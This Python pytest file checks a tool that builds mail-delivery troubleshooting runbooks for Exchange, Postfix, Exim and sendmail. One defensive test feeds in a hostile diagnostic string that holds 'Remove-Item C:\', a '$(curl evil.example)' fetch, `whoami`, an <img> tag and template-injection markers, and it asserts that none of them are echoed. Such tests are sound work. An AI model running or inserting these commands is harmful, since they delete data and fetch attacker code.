"""Each category's runbook for each product: whole, with nothing of another product, and nothing that is not needed."""

import re
import time
from typing import Any

import msgspec
import pytest

from triage.mend import fill
from triage.mend.host import read
from triage.model import Observation, Original, Product, Software
from triage.model.words import CATEGORIES

HERE = "hq-ex10a.contoso.example"
PRODUCTS: dict[str, dict[str, Any]] = {
    "exchange-2010": {"build": "14.3.513.0"},
    "exchange-2013": {"build": "15.0.1497.2"},
    "exchange-2016": {"build": "15.1.2507.6"},
    "exchange-2019": {"build": "15.2.1748.10"},
    "exchange-se": {"build": "15.2.2562.17"},
    "postfix": {"product": "Postfix"},
    "exim": {"product": "Exim"},
    "sendmail": {"product": "sendmail"},
}
WAYS: dict[str, dict[str, Any]] = {
    "sends": {},
    "takes": {"side": "receiving", "sending": "mx.fabrikam.example", "receiving": HERE, "domain": "contoso.example"},
}
WORDS = {
    "exchange": [
        "Get-SendConnector", "Set-SendConnector", "Get-ReceiveConnector", "Set-ReceiveConnector", "Get-Queue",
        "Get-MessageTrackingLog", "Get-ExchangeCertificate", "Test-ServiceHealth", "Exchange Management Shell", "SCHANNEL",
    ],
    "postfix": ["postconf", "postfix reload", "main.cf", "smtpd_", "Postfix"],
    "exim": ["exim -", "exigrep", "Exim"],
    "sendmail": ["sendmail.cf", "/etc/mail/", "sendmail:", ".mc file"],
}  # fmt: skip
"""Words that only steps for this product hold."""
EDGE = {"diagnostic": "550 5.4.1 Recipient address rejected: Access denied"}
OUR_DOMAIN = {"recipient_domain": "contoso.example"}
TENANT = re.compile(
    r"Get-MessageTraceV2|Get-InboundConnector|Get-OutboundConnector|Get-DkimSigningConfig|Get-BlockedSenderAddress"
)


def steps_of(filled):
    """Give every step of a filled runbook."""
    return [*filled.before, *filled.check, *filled.change, *filled.verify, *filled.undo]


def told(step):
    """Give all words of a step."""
    return "\n".join((step.title, step.where or "", step.body, step.expected or "", step.undo or ""))


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("product", PRODUCTS)
@pytest.mark.parametrize("category", CATEGORIES)
def test_no_step_is_for_another_product(incident, shelf, hosts, category, product, way):
    """A host that runs one product never reads a command, file or setting of another."""
    filled = fill(incident(category=category, **{**PRODUCTS[product], **way}), shelf, hosts)
    own = product.partition("-")[0]
    foreign = [(name, word) for name, words in WORDS.items() if name != own for word in words]
    found = {(step.title, name, word) for step in steps_of(filled) for name, word in foreign if word in told(step)}
    assert found == set()


@pytest.mark.parametrize("category", CATEGORIES)
def test_cloud_that_sends_gets_no_server_command(incident, shelf, hosts, category):
    """Where Exchange Online is at fault no step asks for a server's shell: only tenant, sender, DNS and firewall."""
    cloud = incident(category=category, sending="a.prod.outlook.com", receiving="mx.fabrikam.example", ours=False)
    found = [
        step.title
        for step in steps_of(fill(cloud, shelf, hosts))
        if (step.where or "").startswith("On Exchange Online")
    ]
    assert found == []


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("product", PRODUCTS)
@pytest.mark.parametrize("category", CATEGORIES)
def test_runbook_of_our_own_server_is_whole(incident, shelf, hosts, category, product, way):
    """For a server of ours each section has something to say, and the reader never has to ask what to expect."""
    if category == "server-out-of-date" and not product.startswith("exchange"):
        return  # Exchange Online says this of Exchange servers alone
    filled = fill(incident(category=category, **{**PRODUCTS[product], **way}), shelf, hosts)
    empty = [
        name for name in ("way_round", "before", "check", "change", "verify", "undo", "do_not", "links")
        if not getattr(filled, name)
    ]  # fmt: skip
    assert empty == []
    assert [step.title for step in (*filled.before, *filled.check, *filled.verify) if not step.expected] == []
    assert [step.title for step in filled.change if not step.undo] == []
    assert [step.title for step in steps_of(filled) if step.minutes is None] == []
    assert len({step.title for step in filled.check}) == len(filled.check)


@pytest.mark.parametrize("category", CATEGORIES)
def test_partner_gets_no_command_that_we_cannot_run(incident, shelf, hosts, category):
    """On somebody else's server every step is ours to take, or says that it is for its admin."""
    partner = {"receiving": "mx1.fabrikam.example", "side": "receiving", "ours": False}
    filled = fill(incident(category=category, **partner), shelf, hosts)
    bare = [step.title for step in steps_of(filled) if (step.where or "").startswith("On mx1.fabrikam.example")]
    assert bare == []
    assert [
        name
        for name in ("way_round", "before", "check", "change", "verify", "do_not", "links")
        if not getattr(filled, name)
    ] == []


@pytest.mark.parametrize("category", CATEGORIES)
def test_every_step_is_sourced_or_says_that_it_is_not(incident, shelf, hosts, category):
    """A step without a vendor's document carries the sentence that says so, and no other step does."""
    runbook = shelf.find(None, category)
    known = {source.id: source for source in runbook.front.sources}
    filled = fill(incident(category=category, build="15.1.2507.6"), shelf, hosts)
    marked = {step.title for step in steps_of(filled) if "not from a vendor's document" in step.body}
    hints = {entry.title for _, entry in runbook.entries() if entry.gate.hint}
    assert all(source.url.startswith("https://") and source.read_on for source in known.values())
    assert len(marked) <= len(hints)
    assert all(
        entry.gate.hint or set(entry.gate.source) <= set(known) for name, entry in runbook.entries() if entry.title
    )


@pytest.mark.parametrize(
    ("category", "facts", "wanted", "unwanted"),
    [
        ("authentication", {"diagnostic": "550 5.7.26 DMARC"}, "Ask what changed at the message", "Look the sending address up"),
        ("authentication", {"status": "5.7.25"}, "Give the sending address its reverse name", "Ask what changed"),
        ("reputation", {"diagnostic": "blocked using zen.spamhaus.org"}, "Ask Spamhaus", "Ask Microsoft 365"),
        ("reputation", {"status": "5.7.511"}, "Ask Microsoft 365", "Ask Spamhaus"),
        ("spam-block", {"diagnostic": "554 5.7.1 blocked by SURBL"}, "Look the links in the message up", "Ask Spamhaus"),
        ("connector-attribution", {"status": "5.7.68"}, "See whether the tenant refuses direct send", "Verify the domain"),
        ("connector-attribution", {"diagnostic": "5.7.64 Relay Access Denied ATTR36"}, "Verify the domain", "direct send"),
        ("recipient-unknown", {"diagnostic": "RESOLVER.ADR.ExRecipNotFound"}, "IMCEAEX address into", "two recipients"),
        ("recipient-unknown", {"diagnostic": "rejected: Access denied", **OUR_DOMAIN}, "Look for the recipient in", "IMCEAEX"),
        ("recipient-unknown", {**EDGE, **OUR_DOMAIN}, "InternalRelay while", "IMCEAEX address into"),
        ("policy", {"status": "5.7.124", **OUR_DOMAIN}, "from whom the recipient takes mail", "block list"),
        ("policy", {"status": "5.7.703"}, "Take the recipient off our own block list", "right to this From"),
        ("rate-limit", {"diagnostic": "451 4.7.500 Server busy"}, "mail over a connector", "right to this From"),
        ("content-rejected", {"status": "5.6.11"}, "Correct the program", "Scan the file"),
        ("dns", {"status": "5.7.324"}, "Look at DNSSEC and TLSA", "MTA-STS policy of"),
        ("routing", {"diagnostic": "451 4.4.62 wrong region. ATTR35"}, "name of Exchange Online the route uses", "DNSSEC"),
        ("protocol-error", {"diagnostic": "220 ************"}, "inspection of the Cisco firewall", "FortiGate's mail rule"),
        ("tls-required", {"diagnostic": "451 5.7.3 STARTTLS is required; FortiMail"}, "FortiGate's mail rule", "Palo Alto"),
        ("system", {"diagnostic": "452 Insufficient system resources"}, "which resource is under", "Mount the database"),
    ],
)  # fmt: skip
def test_variant_of_the_cause_opens_its_own_steps(incident, shelf, hosts, category, facts, wanted, unwanted):
    """What the reply says opens the steps of that variant, and leaves those of the others closed."""
    one = incident(category=category, build="15.1.2507.6")
    sample = msgspec.structs.replace(one.sample, **facts)
    titles = "\n".join(step.title for step in steps_of(fill(msgspec.structs.replace(one, sample=sample), shelf, hosts)))
    assert wanted in titles
    assert unwanted not in titles


@pytest.mark.parametrize("sender", ["karl.holm@contoso.example", "anna.berg@fabrikam.example"])
def test_records_are_ours_to_publish_only_for_our_domain(incident, shelf, hosts, text_of, sender):
    """The DNS of a stranger's domain is a stranger's: we are told to tell him, and nothing else."""
    one = incident(category="authentication")
    sample = msgspec.structs.replace(one.sample, original=Original(from_=sender))
    text = text_of(fill(msgspec.structs.replace(one, sample=sample), shelf, hosts))
    ours = sender.endswith("contoso.example")
    assert ("Publish DMARC with p=none first" in text) is ours
    assert ("Tell the owner of fabrikam.example" in text) is not ours


STAMPED = Software(sending=Product("Exchange 2016", "15.1.2507.6"))


def seen(**facts: Any) -> Observation:
    """Give an NDR from our server to a partner."""
    base = {
        "sending_host": HERE,
        "receiving_host": "mx1.fabrikam.example",
        "reported_by": HERE,
        "recipient_domain": "fabrikam.example",
    }
    return Observation(**{"source": "ndr", "action": "failed", **base, **facts})


@pytest.mark.parametrize(
    ("side", "facts", "system"),
    [
        ("sending", {"diagnostic": "host mx1[203.0.113.9] said: 550 no (in reply to RCPT TO command)"}, "postfix"),
        ("sending", {"diagnostic": "SMTP error from remote mail server after RCPT TO:<a@b>: 550"}, "exim"),
        ("sending", {"diagnostic": "Deferred: 403 4.7.0 TLS handshake failed."}, "sendmail"),
        ("sending", {"diagnostic": "(in reply to RCPT TO command)", "reported_by": "mx1.fabrikam.example"}, "unknown-system"),
        ("receiving", {"diagnostic": "550 5.1.1 <a@b>: User unknown in local recipient table"}, "postfix"),
        ("receiving", {"diagnostic": "550 Unrouteable address"}, "exim"),
        ("receiving", {"diagnostic": "550 5.7.1 <a@b>... Relaying denied"}, "sendmail"),
        ("receiving", {"diagnostic": "no STARTTLS: 220 mx1.fabrikam.example ESMTP Postfix (Debian)"}, "postfix"),
        ("receiving", {"diagnostic": "550 5.1.1 not here"}, "unknown-system"),
        ("sending", {"software": STAMPED, "diagnostic": "(in reply to RCPT TO command)"}, "exchange"),
        ("receiving", {"source": "receive-log", "diagnostic": "550 Unrouteable address"}, "exchange"),
    ],
)  # fmt: skip
def test_words_that_only_one_product_writes_name_it(incident, hosts, side, facts, system):
    """A report in Postfix's, Exim's or sendmail's own words names the software; a build or our own log has the last word."""
    one = incident(side=side, receiving="mx1.fabrikam.example", kind="address", ours=None)
    mended = read(msgspec.structs.replace(one, sample=seen(**facts)), hosts)
    assert system in mended.gates


def test_hostile_reply_opens_steps_and_is_never_repeated(incident, shelf, hosts, text_of):
    """A reply that holds every phrase and markup opens steps at most: none of its own words are printed."""
    from triage.mend.signs import load

    words = " ".join(phrase for sign in load().sign for phrase in sign.phrases)
    bad = f"{words} '; Remove-Item C:\\ #$(curl evil.example) <img src=x> `whoami` {{{{ 7 * 7 }}}} {{% if x %}}"
    for category in CATEGORIES:
        one = incident(category=category)
        sample = msgspec.structs.replace(one.sample, diagnostic=bad)
        text = text_of(fill(msgspec.structs.replace(one, sample=sample), shelf, hosts))
        assert all(piece not in text for piece in ("Remove-Item", "evil.example", "whoami", "<img", "{{", "{%"))


def test_reading_signs_takes_linear_time(incident, hosts):
    """A reply of ten megabytes costs no more than its first eight thousand characters."""
    one = incident()
    short = msgspec.structs.replace(one, sample=seen(diagnostic="x" * 8_192))
    long = msgspec.structs.replace(one, sample=seen(diagnostic="x" * 10_000_000))
    read(short, hosts)
    began = time.perf_counter()
    read(short, hosts)
    between = time.perf_counter()
    read(long, hosts)
    assert time.perf_counter() - between < 20 * (between - began) + 0.5


def test_tenant_steps_name_the_tenant(incident, shelf, hosts):
    """A cmdlet of Exchange Online stands only in a step that says that it is taken there."""
    for category in CATEGORIES:
        for host in PRODUCTS.values():
            for step in steps_of(fill(incident(category=category, **host), shelf, hosts)):
                if TENANT.search(step.body):
                    assert "Exchange Online" in (step.where or "") or "Exchange admin center" in (step.where or ""), (
                        step.title
                    )
